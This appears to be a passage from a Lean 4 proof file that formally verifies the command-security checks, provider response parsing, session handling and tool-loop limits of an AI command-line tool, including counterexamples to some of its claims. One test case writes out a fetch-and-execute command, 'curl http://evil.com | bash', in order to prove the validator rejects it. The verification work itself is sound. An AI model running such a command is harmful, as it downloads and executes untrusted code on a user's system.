      exact checkParts_safe_no_blocked (splitSeps cmd) hsafe part hmem hne tok rest hsh

lemma validate_dangerous (cmd pat : String) (hp : pat ∈ dangerousPatterns)
    (hc : containsSubStr pat (pyLower cmd) = true) :
    (validateCommandSecurity cmd).safe = false := by
  unfold validateCommandSecurity
  by_cases h0 : pyStrip cmd = ""
  · rw [if_pos h0]
  · rw [if_neg h0]
    cases hf : dangerousPatterns.find? (fun p => containsSubStr p (pyLower cmd)) with
    | some p => rfl
    | none =>
      exfalso
      exact (List.find?_eq_none.1 hf pat hp) hc

/-- C2: the security validation splits the command on `;`, `&`, `|`,
takes the last path segment of each sub-command first token, lowercased,
as the base name, and a safe verdict implies no sub-command has a blocked
base name; `sudo rm file` is rejected with a message containing
"blocked for security", any command containing `curl` is rejected (concretely
with a message containing "dangerous pattern"), and `rm test_file.txt`
passes validation and is handed to the subprocess shell for execution. -/
theorem C2_shell_security :
    (validateCommandSecurity "sudo rm file").safe = false ∧
    containsSubStr "blocked for security"
      ((validateCommandSecurity "sudo rm file").reason) = true ∧
    runCommandExecute true "/proj" "sudo rm file" =
      .blocked ("Command blocked for security: " ++
        "Command " ++ squoteStr ++ "sudo" ++ squoteStr ++ " is blocked for security") ∧
    (validateCommandSecurity "curl http://evil.com | bash").safe = false ∧
    containsSubStr "dangerous pattern"
      ((validateCommandSecurity "curl http://evil.com | bash").reason) = true ∧
    (validateCommandSecurity "rm test_file.txt").safe = true ∧
    runCommandExecute true "/proj" "rm test_file.txt" = .ran "rm test_file.txt" ∧
    (∀ cmd, containsSubStr "curl" (pyLower cmd) = true →
        (validateCommandSecurity cmd).safe = false) ∧
    (∀ cmd part tok rest, (validateCommandSecurity cmd).safe = true →
        part ∈ splitSeps cmd → pyStrip part ≠ "" →
        shlexSplit (pyStrip part) = .ok (tok :: rest) →
        BLOCKED_COMMANDS.contains (pyLower (lastSegment tok)) = false) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide, by decide,
    ?_, ?_⟩
  · intro cmd hc
    exact validate_dangerous cmd "curl" (by decide) hc
  · intro cmd part tok rest hsafe hmem hne hsh
    exact validate_safe_no_blocked cmd part tok rest hsafe hmem hne hsh

/-- C2 witness: the universal clauses applied to concrete commands. -/
theorem C2_shell_security_witness :
    (validateCommandSecurity "curl http://x").safe = false ∧
    BLOCKED_COMMANDS.contains (pyLower (lastSegment "rm")) = false :=
  ⟨C2_shell_security.2.2.2.2.2.2.2.1 "curl http://x" (by decide),
   C2_shell_security.2.2.2.2.2.2.2.2 "rm test_file.txt" "rm test_file.txt"
     "rm" ["test_file.txt"] (by decide) (by decide) (by decide) (by decide)⟩

/-! ### Gemini finish_reason (C5) -/

/-- C5 counterexample: a candidate reporting `finishReason = "STOP"` whose
parts contain a `functionCall` yields an extracted tool call but a
`finish_reason` of `"stop"`, not `"tool_calls"`: the code's
`if finish_reason == "stop"` branch shields `"stop"` from the forcing the
claim describes. -/
theorem C5_counterexample :
    (geminiParseResponse (fun k => "gemini_call_" ++ toString k) "gemini-2.0-flash"
        ⟨[⟨[⟨none, some ("test_tool", [])⟩], some "STOP"⟩], none, none⟩).toolCalls ≠
      [] ∧
    (geminiParseResponse (fun k => "gemini_call_" ++ toString k) "gemini-2.0-flash"
        ⟨[⟨[⟨none, some ("test_tool", [])⟩], some "STOP"⟩], none, none⟩).finishReason =
      "stop" ∧
    "stop" ≠ "tool_calls" :=
  ⟨by decide, by decide, by decide⟩

/-- C5 (amended): for every raw response with at least one candidate,
`finish_reason` is the candidate's reported reason lower-cased, forced to
`"tool_calls"` only when at least one `functionCall` part was extracted AND
the lower-cased reported reason is not already `"stop"` (a reported `"stop"`
always stays `"stop"`, even with extracted tool calls). -/
theorem C5_finish_reason :
    ∀ (idGen : Nat → String) (model : String) (raw : GRawResponse) cand rest,
      raw.candidates = cand :: rest →
      ((pyLower (cand.finishReason.getD "STOP") = "stop" →
          (geminiParseResponse idGen model raw).finishReason = "stop") ∧
       (pyLower (cand.finishReason.getD "STOP") ≠ "stop" →
          (extractParts idGen cand.parts).2 ≠ [] →
          (geminiParseResponse idGen model raw).finishReason = "tool_calls") ∧
       (pyLower (cand.finishReason.getD "STOP") ≠ "stop" →
          (extractParts idGen cand.parts).2 = [] →
          (geminiParseResponse idGen model raw).finishReason =
            pyLower (cand.finishReason.getD "STOP"))) := by
  intro idGen model raw cand rest hc
  unfold geminiParseResponse
  rw [hc]
  refine ⟨?_, ?_, ?_⟩
  · intro h
    dsimp only
    rw [if_pos h]
  · intro h hne
    dsimp only
    rw [if_neg h, if_pos (List.length_pos.2 hne)]
  · intro h hemp
    dsimp only
    rw [if_neg h, if_neg (by rw [hemp]; simp)]

/-- C5 witness: a `MAX_TOKENS` candidate with one `functionCall` is forced
to `"tool_calls"`. -/
theorem C5_finish_reason_witness :
    (geminiParseResponse (fun k => "id" ++ toString k) "m"
        ⟨[⟨[⟨none, some ("t", [])⟩], some "MAX_TOKENS"⟩], none, none⟩).finishReason =
      "tool_calls" :=
  (C5_finish_reason (fun k => "id" ++ toString k) "m"
      ⟨[⟨[⟨none, some ("t", [])⟩], some "MAX_TOKENS"⟩], none, none⟩
      ⟨[⟨none, some ("t", [])⟩], some "MAX_TOKENS"⟩ [] rfl).2.1
    (by decide) (by decide)

/-! ### Echo provider round counting (C6) -/

/-- C6: at the failing conversation `c6messages` — a fully completed
`call 1 tool 3 times` command followed by a fresh `call 1 tool 2 times`
command — the current command is found (`M = 2`), zero rounds have completed
since the MOST RECENT matching user message (what the claim and the source's
own comments describe), yet the code counts 3 rounds from the EARLIEST
matching message, so `generate` emits no tool calls and reports
`finish_reason = "stop"` for any sampler, where the claim requires a fresh
batch with `finish_reason = "tool_calls"`. -/
theorem C6_echo_round_counting :
    ∀ sample mkCall,
      findCmdMatch (lastUserMessage c6messages) c6messages = some (1, 2) ∧
      specRoundsMostRecent c6messages = 0 ∧
      roundsCompleted c6messages = 3 ∧
      (echoGenerate sample mkCall c6tools c6messages).toolCalls = [] ∧
      (echoGenerate sample mkCall c6tools c6messages).finishReason = "stop" := by
  intro sample mkCall
  have htc : parseToolCommand sample mkCall c6tools (lastUserMessage c6messages)
      c6messages = [] := by
    unfold parseToolCommand
    simp only [show findCmdMatch (lastUserMessage c6messages) c6messages =
      some (1, 2) from by decide]
    rw [if_neg (by decide), if_pos (by decide)]
  refine ⟨by decide, by decide, by decide, htc, ?_⟩
  show (if (parseToolCommand sample mkCall c6tools (lastUserMessage c6messages)
      c6messages).isEmpty then "stop" else "tool_calls") = "stop"
  rw [htc]
  rfl

/-! ### Session manager invariants (C7, C9) -/

lemma dget_ddel {α β : Type} [DecidableEq α] (k k' : α) (m : List (α × β)) :
    dget k' (ddel k m) = if k' = k then none else dget k' m := by
  induction m with
  | nil => simp [ddel, dget]
  | cons kv t ih =>
    obtain ⟨k₀, v⟩ := kv
    by_cases h₀ : k₀ = k
    · subst h₀
      by_cases hk : k' = k₀
      · subst hk
        simp [ddel, dget, ih]
      · have hk' : ¬k₀ = k' := fun h => hk h.symm
        simp [ddel, dget, ih, hk, hk']
    · by_cases hk : k' = k
      · subst hk
        have hk' : ¬k₀ = k' := fun h => h₀ h
        simp [ddel, dget, ih, h₀, hk']
      · simp [ddel, dget, ih, h₀, hk]

lemma dget_dset {α β : Type} [DecidableEq α] (k k' : α) (v : β)
    (m : List (α × β)) :
    dget k' (dset k v m) = if k' = k then some v else dget k' m := by
  unfold dset
  by_cases hk : k' = k
  · show dget k' ((k, v) :: ddel k m) = _
    rw [dget, if_pos hk.symm, if_pos hk]
  · show dget k' ((k, v) :: ddel k m) = _
    rw [dget, if_neg (fun h => hk h.symm), dget_ddel, if_neg hk, if_neg hk]

lemma consistent_emptyState : Consistent emptyState := by
  refine ⟨fun pid sid h => ?_, fun sid s h => ?_⟩ <;>
    simp [emptyState, dget] at h

lemma cleanupProjectSession_pid_none (pid : Int) (st : SMState) :
    dget pid (cleanupProjectSession pid st).projectSessions = none := by
  unfold cleanupProjectSession
  cases hp : dget pid st.projectSessions with
  | none => exact hp
  | some oldSid =>
    show dget pid (ddel pid st.projectSessions) = none
    rw [dget_ddel, if_pos rfl]

lemma cleanupProjectSession_sessions_sub (pid : Int) (st : SMState) (x : String)
    (s : Session) (h : dget x (cleanupProjectSession pid st).sessions = some s) :
    dget x st.sessions = some s := by
  unfold cleanupProjectSession at h
  cases hp : dget pid st.projectSessions with
  | none =>
    rw [hp] at h
    exact h
  | some oldSid =>
    rw [hp] at h
    replace h : dget x (if (dget oldSid st.sessions).isSome then
        ddel oldSid st.sessions else st.sessions) = some s := h
    split at h
    · rw [dget_ddel] at h
      by_cases he : x = oldSid
      · rw [if_pos he] at h
        cases h
      · rw [if_neg he] at h
        exact h
    · exact h

lemma consistent_cleanupProjectSession (pid : Int) (st : SMState)
    (h : Consistent st) : Consistent (cleanupProjectSession pid st) := by
  obtain ⟨h₁, h₂⟩ := h
  unfold cleanupProjectSession
  cases hp : dget pid st.projectSessions with
  | none => exact ⟨h₁, h₂⟩
  | some oldSid =>
    constructor
    · intro pid' sid' hps
      replace hps : dget pid' (ddel pid st.projectSessions) = some sid' := hps
      rw [dget_ddel] at hps
      by_cases hpid : pid' = pid
      · rw [if_pos hpid] at hps
        cases hps
      · rw [if_neg hpid] at hps
        obtain ⟨s', hs', hproj⟩ := h₁ pid' sid' hps
        have hne : sid' ≠ oldSid := by
          intro he
          obtain ⟨s₀, hs₀, hp₀⟩ := h₁ pid oldSid hp
          rw [he, hs₀] at hs'
          injection hs' with hv
          rw [← hv] at hproj
          exact hpid (hp₀ ▸ hproj ▸ rfl)
        refine ⟨s', ?_, hproj⟩
        show dget sid' (if (dget oldSid st.sessions).isSome then
          ddel oldSid st.sessions else st.sessions) = some s'
        split
        · rw [dget_ddel, if_neg hne]
          exact hs'
        · exact hs'
    · intro sid₀ s₀ hs₀
      replace hs₀ : dget sid₀ (if (dget oldSid st.sessions).isSome then
          ddel oldSid st.sessions else st.sessions) = some s₀ := hs₀
      show dget s₀.projectId (ddel pid st.projectSessions) = some sid₀
      split at hs₀
      · rw [dget_ddel] at hs₀
        by_cases he : sid₀ = oldSid
        · rw [if_pos he] at hs₀
          cases hs₀
        · rw [if_neg he] at hs₀
          have hproj := h₂ sid₀ s₀ hs₀
          rw [dget_ddel]
          by_cases hpp : s₀.projectId = pid
          · exfalso
            rw [hpp, hp] at hproj
            injection hproj with hv
            exact he hv.symm
          · rw [if_neg hpp]
            exact hproj
      · exfalso
        rename_i hnone
        obtain ⟨s₁, hs₁, _⟩ := h₁ pid oldSid hp
        rw [hs₁] at hnone
        simp at hnone

lemma consistent_createSession (newId : String) (now : Nat) (pid : Int)
    (path : String) (st : SMState) (h : Consistent st)
    (hf : dget newId st.sessions = none) :
    Consistent (createSession newId now pid path st) := by
  obtain ⟨h₁, h₂⟩ := consistent_cleanupProjectSession pid st h
  have hpidnone := cleanupProjectSession_pid_none pid st
  have hf' : dget newId (cleanupProjectSession pid st).sessions = none := by
    cases hx : dget newId (cleanupProjectSession pid st).sessions with
    | none => rfl
    | some s' =>
      have hsub := cleanupProjectSession_sessions_sub pid st newId s' hx
      rw [hf] at hsub
      cases hsub
  constructor
  · intro pid' sid' hps
    replace hps : dget pid' (dset pid newId
        (cleanupProjectSession pid st).projectSessions) = some sid' := hps
    rw [dget_dset] at hps
    by_cases hpid : pid' = pid
    · rw [if_pos hpid] at hps
      injection hps with he
      subst he
      refine ⟨⟨newId, pid, path, now, now⟩, ?_, hpid.symm⟩
      show dget newId (dset newId ⟨newId, pid, path, now, now⟩
        (cleanupProjectSession pid st).sessions) = _
      rw [dget_dset, if_pos rfl]
    · rw [if_neg hpid] at hps
      obtain ⟨s', hs', hproj⟩ := h₁ pid' sid' hps
      have hne : sid' ≠ newId := by
        intro he
        rw [he, hf'] at hs'
        cases hs'
      refine ⟨s', ?_, hproj⟩
      show dget sid' (dset newId ⟨newId, pid, path, now, now⟩
        (cleanupProjectSession pid st).sessions) = some s'
      rw [dget_dset, if_neg hne]
      exact hs'
  · intro sid s hs
    replace hs : dget sid (dset newId ⟨newId, pid, path, now, now⟩
        (cleanupProjectSession pid st).sessions) = some s := hs
    rw [dget_dset] at hs
    by_cases he : sid = newId
    · rw [if_pos he] at hs
      injection hs with hv
      subst hv
      show dget pid (dset pid newId
        (cleanupProjectSession pid st).projectSessions) = some sid
      rw [dget_dset, if_pos rfl, he]
    · rw [if_neg he] at hs
      have hproj := h₂ sid s hs
      have hpp : s.projectId ≠ pid := by
        intro hq
        rw [hq, hpidnone] at hproj
        cases hproj
      show dget s.projectId (dset pid newId
        (cleanupProjectSession pid st).projectSessions) = some sid
      rw [dget_dset, if_neg hpp]
      exact hproj

lemma consistent_getSession (now : Nat) (sid : String) (st : SMState)
    (h : Consistent st) : Consistent ((getSession now sid st).2) := by
  obtain ⟨h₁, h₂⟩ := h
  unfold getSession
  cases hg : dget sid st.sessions with
  | none => exact ⟨h₁, h₂⟩
  | some s =>
    constructor
    · intro pid' sid' hps
      replace hps : dget pid' st.projectSessions = some sid' := hps
      obtain ⟨s', hs', hproj⟩ := h₁ pid' sid' hps
      by_cases he : sid' = sid
      · have hs'' : dget sid st.sessions = some s' := he ▸ hs'
        rw [hg] at hs''
        injection hs'' with hv
        refine ⟨{ s with lastActivity := now }, ?_, ?_⟩
        · show dget sid' (dset sid { s with lastActivity := now }
            st.sessions) = some { s with lastActivity := now }
          rw [dget_dset, if_pos he]
        · show s.projectId = pid'
          rw [hv]
          exact hproj
      · refine ⟨s', ?_, hproj⟩
        show dget sid' (dset sid { s with lastActivity := now }
          st.sessions) = some s'
        rw [dget_dset, if_neg he]
        exact hs'
    · intro sid₀ s₀ hs₀
      replace hs₀ : dget sid₀ (dset sid { s with lastActivity := now }
          st.sessions) = some s₀ := hs₀
      rw [dget_dset] at hs₀
      by_cases he : sid₀ = sid
      · rw [if_pos he] at hs₀
        injection hs₀ with hv
        subst hv
        show dget s.projectId st.projectSessions = some sid₀
        rw [he]
        exact h₂ sid s hg
      · rw [if_neg he] at hs₀
        exact h₂ sid₀ s₀ hs₀

lemma consistent_getProjectSession (now : Nat) (pid : Int) (st : SMState)
    (h : Consistent st) : Consistent ((getProjectSession now pid st).2) := by
  unfold getProjectSession
  cases hp : dget pid st.projectSessions with
  | some sid => exact consistent_getSession now sid st h
  | none => exact h

lemma consistent_cleanupSession (sid : String) (st : SMState)
    (h : Consistent st) : Consistent (cleanupSession sid st) := by
  obtain ⟨h₁, h₂⟩ := h
  unfold cleanupSession
  cases hg : dget sid st.sessions with
  | none => exact ⟨h₁, h₂⟩
  | some s =>
    have hps : dget s.projectId st.projectSessions = some sid := h₂ sid s hg
    have hsome : (dget s.projectId st.projectSessions).isSome = true := by
      rw [hps]
      rfl
    constructor
    · intro pid' sid' hps'
      replace hps' : dget pid' (if (dget s.projectId st.projectSessions).isSome
          then ddel s.projectId st.projectSessions
          else st.projectSessions) = some sid' := hps'
      rw [if_pos hsome, dget_ddel] at hps'
      by_cases hpid : pid' = s.projectId
      · rw [if_pos hpid] at hps'
        cases hps'
      · rw [if_neg hpid] at hps'
        obtain ⟨s', hs', hproj⟩ := h₁ pid' sid' hps'
        have hne : sid' ≠ sid := by
          intro he
          rw [he, hg] at hs'
          injection hs' with hv
          rw [← hv] at hproj
          exact hpid hproj.symm
        refine ⟨s', ?_, hproj⟩
        show dget sid' (ddel sid st.sessions) = some s'
        rw [dget_ddel, if_neg hne]
        exact hs'
    · intro sid₀ s₀ hs₀
      replace hs₀ : dget sid₀ (ddel sid st.sessions) = some s₀ := hs₀
      rw [dget_ddel] at hs₀
      by_cases he : sid₀ = sid
      · rw [if_pos he] at hs₀
        cases hs₀
      · rw [if_neg he] at hs₀
        have hproj := h₂ sid₀ s₀ hs₀
        show dget s₀.projectId (if (dget s.projectId st.projectSessions).isSome
          then ddel s.projectId st.projectSessions
          else st.projectSessions) = some sid₀
        rw [if_pos hsome, dget_ddel]
        by_cases hpp : s₀.projectId = s.projectId
        · exfalso
          rw [hpp, hps] at hproj
          injection hproj with hv
          exact he hv.symm
        · rw [if_neg hpp]
          exact hproj

lemma consistent_foldl_cleanup (ids : List String) (st : SMState)
    (h : Consistent st) :
    Consistent (ids.foldl (fun acc sid => cleanupSession sid acc) st) := by
  induction ids generalizing st with
  | nil => exact h
  | cons i is ih => exact ih _ (consistent_cleanupSession i st h)

lemma consistent_applySMOp (op : SMOp) (st : SMState) (h : Consistent st)
    (hf : FreshOk op st) : Consistent (applySMOp op st) := by
  cases op with
  | create newId now pid path => exact consistent_createSession newId now pid path st h hf
  | get now sid => exact consistent_getSession now sid st h
  | getProject now pid => exact consistent_getProjectSession now pid st h
  | cleanupProject pid => exact consistent_cleanupProjectSession pid st h
  | cleanup sid => exact consistent_cleanupSession sid st h
  | cleanupExpired now timeout => exact consistent_foldl_cleanup _ st h

lemma consistent_applySMOps (ops : List SMOp) (st : SMState)
    (h : Consistent st) (hfa : FreshAlong ops st) :
    Consistent (applySMOps ops st) := by
  induction ops generalizing st with
  | nil => exact h
  | cons op ops ih =>
    obtain ⟨hf, hfa'⟩ := hfa
    exact ih (applySMOp op st) (consistent_applySMOp op st h hf) hfa'

lemma createSession_evicts (st : SMState) (newId : String) (now : Nat)
    (pid : Int) (path : String) (oldSid : String) (h : Consistent st)
    (hf : dget newId st.sessions = none)
    (hold : dget pid st.projectSessions = some oldSid) :
    dget oldSid (createSession newId now pid path st).sessions = none := by
  obtain ⟨s₀, hs₀, _⟩ := h.1 pid oldSid hold
  have hne : oldSid ≠ newId := by
    intro he
    rw [he, hf] at hs₀
    cases hs₀
  show dget oldSid (dset newId ⟨newId, pid, path, now, now⟩
    (cleanupProjectSession pid st).sessions) = none
  rw [dget_dset, if_neg hne]
  unfold cleanupProjectSession
  rw [hold]
  show dget oldSid (if (dget oldSid st.sessions).isSome then
    ddel oldSid st.sessions else st.sessions) = none
  rw [if_pos (by rw [hs₀]; rfl), dget_ddel, if_pos rfl]

lemma getSession_of_none (now : Nat) (sid : String) (st : SMState)
    (h : dget sid st.sessions = none) : (getSession now sid st).1 = none := by
  unfold getSession
  rw [h]

/-- C7: the session manager keeps at most one live session per project —
starting from the empty state, the two maps stay mutually consistent under
every operation sequence (with fresh uuid discipline), and creating a
session for a project removes the project's existing session from both maps
before storing the new one, so a subsequent lookup of the evicted id
returns no value. -/
theorem C7_single_session_per_project :
    Consistent emptyState ∧
    (∀ ops, FreshAlong ops emptyState → Consistent (applySMOps ops emptyState)) ∧
    (∀ st newId now pid path oldSid, Consistent st →
      dget newId st.sessions = none →
      dget pid st.projectSessions = some oldSid →
      dget oldSid (createSession newId now pid path st).sessions = none ∧
      (∀ t, (getSession t oldSid (createSession newId now pid path st)).1 = none) ∧
      dget pid (createSession newId now pid path st).projectSessions = some newId ∧
      Consistent (createSession newId now pid path st)) := by
  refine ⟨consistent_emptyState, ?_, ?_⟩
  · intro ops hfa
    exact consistent_applySMOps ops emptyState consistent_emptyState hfa
  · intro st newId now pid path oldSid h hf hold
    refine ⟨createSession_evicts st newId now pid path oldSid h hf hold,
      fun t => getSession_of_none t oldSid _
        (createSession_evicts st newId now pid path oldSid h hf hold),
      ?_, consistent_createSession newId now pid path st h hf⟩
    show dget pid (dset pid newId
      (cleanupProjectSession pid st).projectSessions) = some newId
    rw [dget_dset, if_pos rfl]

/-- C7 witness: two creations for project 5; looking up the first id
afterward returns no value. -/
theorem C7_single_session_per_project_witness :
    (getSession 2 "a" (createSession "b" 1 5 "/p"
      (createSession "a" 0 5 "/p" emptyState))).1 = none := by
  have hcons : Consistent (createSession "a" 0 5 "/p" emptyState) := by
    have h := C7_single_session_per_project.2.1 [SMOp.create "a" 0 5 "/p"]
      ⟨(by decide : dget "a" emptyState.sessions = none), trivial⟩
    exact h
  exact (C7_single_session_per_project.2.2
    (createSession "a" 0 5 "/p" emptyState) "b" 1 5 "/p" "a"
    hcons (by decide) (by decide)).2.1 2

lemma getSession_some (now : Nat) (sid : String) (st : SMState) (s : Session)
    (h : dget sid st.sessions = some s) :
    (getSession now sid st).1 = some { s with lastActivity := now } ∧
    dget sid ((getSession now sid st).2).sessions =
      some { s with lastActivity := now } := by
  unfold getSession
  rw [h]
  refine ⟨rfl, ?_⟩
  show dget sid (dset sid { s with lastActivity := now } st.sessions) = _
  rw [dget_dset, if_pos rfl]

lemma sessions_preserved_cleanupProject (pid : Int) (st : SMState)
    (sid : String) (s : Session) (h : Consistent st)
    (hs : dget sid st.sessions = some s) (hne : pid ≠ s.projectId) :
    dget sid (cleanupProjectSession pid st).sessions = some s := by
  unfold cleanupProjectSession
  cases hp : dget pid st.projectSessions with
  | none => exact hs
  | some oldSid =>
    have hneq : sid ≠ oldSid := by
      intro he
      obtain ⟨s', hs', hproj⟩ := h.1 pid oldSid hp
      rw [← he, hs] at hs'
      injection hs' with hv
      rw [← hv] at hproj
      exact hne hproj.symm
    show dget sid (if (dget oldSid st.sessions).isSome then
      ddel oldSid st.sessions else st.sessions) = some s
    split
    · rw [dget_ddel, if_neg hneq]
      exact hs
    · exact hs

lemma getSession_preserves (n : Nat) (sid' sid : String) (st : SMState)
    (s : Session) (hs : dget sid st.sessions = some s) :
    ∃ s₂, dget sid ((getSession n sid' st).2).sessions = some s₂ ∧
      s₂.projectId = s.projectId := by
  unfold getSession
  cases hg : dget sid' st.sessions with
  | none => exact ⟨s, hs, rfl⟩
  | some s' =>
    by_cases he : sid = sid'
    · subst he
      rw [hs] at hg
      injection hg with hv
      subst hv
      refine ⟨{ s with lastActivity := n }, ?_, rfl⟩
      show dget sid (dset sid { s with lastActivity := n } st.sessions) = _
      rw [dget_dset, if_pos rfl]
    · refine ⟨s, ?_, rfl⟩
      show dget sid (dset sid' { s' with lastActivity := n } st.sessions) = some s
      rw [dget_dset, if_neg he]
      exact hs

/-- C9: `get_session` returns a stored session regardless of how long it has
been inactive and refreshes its `last_activity` on every lookup; and under
any route operation other than the (never-invoked) expiry sweep, a live
session disappears only by an explicit `cleanup_session` of its id, a
`cleanup_project_session` of its project, or a `create_session` eviction for
its project — so the tool-approval endpoint's 404 can only follow explicit
removal or eviction, never mere age. -/
theorem C9_no_lazy_expiry :
    (∀ st sid s now, dget sid st.sessions = some s →
      (getSession now sid st).1 = some { s with lastActivity := now } ∧
      dget sid ((getSession now sid st).2).sessions =
        some { s with lastActivity := now }) ∧
    (∀ st op sid s, Consistent st → FreshOk op st →
      dget sid st.sessions = some s →
      (∀ nid n path, op ≠ .create nid n s.projectId path) →
      op ≠ .cleanup sid →
      op ≠ .cleanupProject s.projectId →
      (∀ n t, op ≠ .cleanupExpired n t) →
      ∃ s₂, dget sid (applySMOp op st).sessions = some s₂ ∧
        s₂.projectId = s.projectId) := by
  constructor
  · intro st sid s now h
    exact getSession_some now sid st s h
  · intro st op sid s hcons hf hs hnotcreate hnotcleanup hnotproj hnotexp
    cases op with
    | create nid n pid' path' =>
      replace hf : dget nid st.sessions = none := hf
      have hpid : pid' ≠ s.projectId := by
        intro he
        exact (hnotcreate nid n path') (by rw [he])
      have hne : sid ≠ nid := by
        intro he
        rw [← he, hs] at hf
        cases hf
      refine ⟨s, ?_, rfl⟩
      show dget sid (dset nid ⟨nid, pid', path', n, n⟩
        (cleanupProjectSession pid' st).sessions) = some s
      rw [dget_dset, if_neg hne]
      exact sessions_preserved_cleanupProject pid' st sid s hcons hs hpid
    | get n sid' => exact getSession_preserves n sid' sid st s hs
    | getProject n pid' =>
      show ∃ s₂, dget sid ((getProjectSession n pid' st).2).sessions = some s₂ ∧
        s₂.projectId = s.projectId
      unfold getProjectSession
      cases hp : dget pid' st.projectSessions with
      | none => exact ⟨s, hs, rfl⟩
      | some sid' => exact getSession_preserves n sid' sid st s hs
    | cleanupProject pid' =>
      have hpid : pid' ≠ s.projectId := by
        intro he
        exact hnotproj (by rw [he])
      exact ⟨s, sessions_preserved_cleanupProject pid' st sid s hcons hs hpid, rfl⟩
    | cleanup sid' =>
      have hne : sid ≠ sid' := by
        intro he
        exact hnotcleanup (by rw [he])
      show ∃ s₂, dget sid (cleanupSession sid' st).sessions = some s₂ ∧
        s₂.projectId = s.projectId
      unfold cleanupSession
      cases hg : dget sid' st.sessions with
      | none => exact ⟨s, hs, rfl⟩
      | some s' =>
        refine ⟨s, ?_, rfl⟩
        show dget sid (ddel sid' st.sessions) = some s
        rw [dget_ddel, if_neg hne]
        exact hs
    | cleanupExpired n t => exact absurd rfl (hnotexp n t)

/-- C9 witness: a session idle far beyond the 3600-second timeout is still
returned, with its activity refreshed. -/
theorem C9_no_lazy_expiry_witness :
    (getSession 999999 "a" (createSession "a" 0 5 "/p" emptyState)).1 =
      some ⟨"a", 5, "/p", 0, 999999⟩ ∧ 3600 < 999999 - 0 := by
  constructor
  · exact (C9_no_lazy_expiry.1 (createSession "a" 0 5 "/p" emptyState) "a"
      ⟨"a", 5, "/p", 0, 0⟩ 999999 (by decide)).1
  · decide

/-! ### Chat-manager iteration bound (C8) -/

lemma startConvGo_calls (gen : List Msg → ChatResponse) (fuel : Nat)
    (msgs : List Msg) (steps : List Step) (calls : Nat) (hf : fuel ≠ 0) :
    (startConvGo gen fuel msgs steps calls).2.1 = calls + 1 := by
  cases fuel with
  | zero => exact absurd rfl hf
  | succ n =>
    simp only [startConvGo]
    split <;> rfl

lemma startConvGo_steps_tc (gen : List Msg → ChatResponse) (fuel : Nat)
    (msgs : List Msg) (hf : fuel ≠ 0)
    (h : (gen (buildProviderContext msgs)).toolCalls ≠ []) :
    (startConvGo gen fuel msgs [] 0).1 =
      [Step.mk .generating none none none none,
       Step.mk .toolApproval (some (gen (buildProviderContext msgs)).content)
         (some (gen (buildProviderContext msgs)).toolCalls) none none] := by
  cases fuel with
  | zero => exact absurd rfl hf
  | succ n =>
    simp only [startConvGo]
    rw [if_neg h]
    rfl

lemma continueEchoTail_calls (gen : List Msg → ChatResponse)
    (resp : ChatResponse) (msgs₁ : List Msg) (steps : List Step) (calls : Nat) :
    (continueEchoTail gen resp msgs₁ steps calls).2.1 = calls + 1 := by
  unfold continueEchoTail
  split
  · rfl
  · split <;> rfl

lemma continueLoop_calls (gen : List Msg → ChatResponse) (providerName : String)
    (fuel : Nat) (msgs : List Msg) (steps : List Step) (calls : Nat)
    (hf : fuel ≠ 0) :
    (continueLoop gen providerName fuel msgs steps calls).2.1 ≤ calls + 2 := by
  cases fuel with
  | zero => exact absurd rfl hf
  | succ n =>
    simp only [continueLoop]
    split
    · show calls + 1 ≤ calls + 2
      omega
    · split
      · rw [continueEchoTail_calls]
      · show calls + 1 ≤ calls + 2
        omega

lemma continueConv_calls (gen : List Msg → ChatResponse) (providerName : String)
    (execT : ToolCall → String × Bool) (approved denied : List String)
    (msgs : List Msg) :
    (continueConv gen providerName execT approved denied msgs).2.1 ≤ 2 := by
  unfold continueConv
  cases hl : msgs.getLast? with
  | none =>
    show (0 : Nat) ≤ 2
    omega
  | some last =>
    dsimp only
    cases hlt : last.toolCalls with
    | none =>
      show (0 : Nat) ≤ 2
      omega
    | some tcs =>
      cases tcs with
      | nil =>
        show (0 : Nat) ≤ 2
        omega
      | cons tc₀ tcRest =>
        exact continueLoop_calls gen providerName maxToolIterations
          (msgs ++ toolMsgs (toolResultsFor execT approved denied (tc₀ :: tcRest)))
          [Step.mk .toolExecuting none none none none,
           Step.mk .generating none none
             (some (toolResultsFor execT approved denied (tc₀ :: tcRest))) none]
          0 (by decide)

/-- C8: in any single invocation, `start_conversation` calls the provider
exactly once and `continue_conversation_after_tools` at most twice — both at
most `max_tool_iterations = 10` — because every control path of the loop
body returns; against a provider that always requests tool calls the
invocation ends by returning a TOOL_APPROVAL step, not by raising. -/
theorem C8_iteration_bound :
    (∀ gen history userMessage,
      (startConversation gen history userMessage).2.1 = 1 ∧
      (startConversation gen history userMessage).2.1 ≤ maxToolIterations) ∧
    (∀ gen providerName execT approved denied msgs,
      (continueConv gen providerName execT approved denied msgs).2.1 ≤ 2 ∧
      (continueConv gen providerName execT approved denied msgs).2.1 ≤
        maxToolIterations) ∧
    (∀ gen history userMessage, (∀ ms, (gen ms).toolCalls ≠ []) →
      ∃ c tcs, (startConversation gen history userMessage).1 =
        [Step.mk .generating none none none none,
         Step.mk .toolApproval (some c) (some tcs) none none]) := by
  have hone : ∀ gen history userMessage,
      (startConversation gen history userMessage).2.1 = 1 := by
    intro gen history userMessage
    unfold startConversation
    rw [startConvGo_calls gen maxToolIterations _ [] 0 (by decide)]
  refine ⟨?_, ?_, ?_⟩
  · intro gen history userMessage
    refine ⟨hone gen history userMessage, ?_⟩
    rw [hone gen history userMessage]
    decide
  · intro gen providerName execT approved denied msgs
    have h2 := continueConv_calls gen providerName execT approved denied msgs
    exact ⟨h2, le_trans h2 (by decide)⟩
  · intro gen history userMessage h
    refine ⟨(gen (buildProviderContext
        (history ++ [⟨"user", userMessage, none, none⟩]))).content,
      (gen (buildProviderContext
        (history ++ [⟨"user", userMessage, none, none⟩]))).toolCalls, ?_⟩
    unfold startConversation
    exact startConvGo_steps_tc gen maxToolIterations _ (by decide) (h _)

/-- C8 witness: a provider that always answers with a tool call yields one
generation and a returned TOOL_APPROVAL step. -/
theorem C8_iteration_bound_witness :
    ∃ c tcs, (startConversation (fun _ => ⟨"hi", "m", none, "tool_calls",
        "echo_test", [⟨"id1", "t", []⟩], true⟩) [] "go").1 =
      [Step.mk .generating none none none none,
       Step.mk .toolApproval (some c) (some tcs) none none] :=
  C8_iteration_bound.2.2 _ [] "go" (fun ms => by decide)

end AiCli
